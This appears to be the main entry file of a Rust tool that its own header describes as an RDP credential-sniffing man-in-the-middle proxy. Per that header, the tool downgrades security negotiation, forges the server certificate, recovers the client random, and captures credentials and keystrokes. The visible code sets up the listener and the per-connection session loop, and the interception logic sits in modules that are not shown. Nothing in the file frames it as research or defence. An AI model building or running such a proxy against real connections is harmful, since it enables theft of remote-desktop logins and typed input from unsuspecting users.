//! RDP credential-sniffing MITM proxy.
//!
//! Accepts one RDP client connection at a time, downgrades its security
//! negotiation, forges the target server's certificate, recovers the
//! RSA-protected client random and forwards traffic while extracting
//! credentials and keystrokes in flight.

mod cli;
mod dispatch;
mod hexdump;
mod net;
mod proxy;
mod tls;

use std::net::TcpListener;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;

use anyhow::{Context, Result};
use clap::Parser;
use tracing::{info, warn};
use tracing_subscriber::layer::SubscriberExt;
use tracing_subscriber::util::SubscriberInitExt;

use cli::Args;

fn main() -> Result<()> {
    let args = Args::parse();

    let filter = if args.debug { "debug" } else { "info" };
    tracing_subscriber::registry()
        .with(tracing_subscriber::EnvFilter::try_from_default_env().unwrap_or_else(|_| filter.into()))
        .with(tracing_subscriber::fmt::layer().with_target(false))
        .init();

    let running = Arc::new(AtomicBool::new(true));
    let r = running.clone();
    ctrlc::set_handler(move || r.store(false, Ordering::SeqCst)).context("install Ctrl-C handler")?;

    let bind_ip = if args.bind_ip.is_empty() { "0.0.0.0" } else { args.bind_ip.as_str() };
    let listener = TcpListener::bind((bind_ip, args.listen_port)).context("bind listening socket")?;
    listener.set_nonblocking(true).context("set listener nonblocking")?;
    info!(port = args.listen_port, target = %args.target_host, "waiting for connection");

    while running.load(Ordering::SeqCst) {
        let (stream, addr) = match listener.accept() {
            Ok(pair) => pair,
            Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {
                std::thread::sleep(std::time::Duration::from_millis(50));
                continue;
            }
            Err(e) => return Err(e).context("accept client connection"),
        };
        stream.set_nonblocking(false).context("set client socket blocking")?;
        info!(from = %addr, "connection received");

        if let Err(e) = proxy::run_session(&args, stream) {
            warn!(error = %e, "session ended");
        }
        info!("waiting for connection");
    }

    Ok(())
}
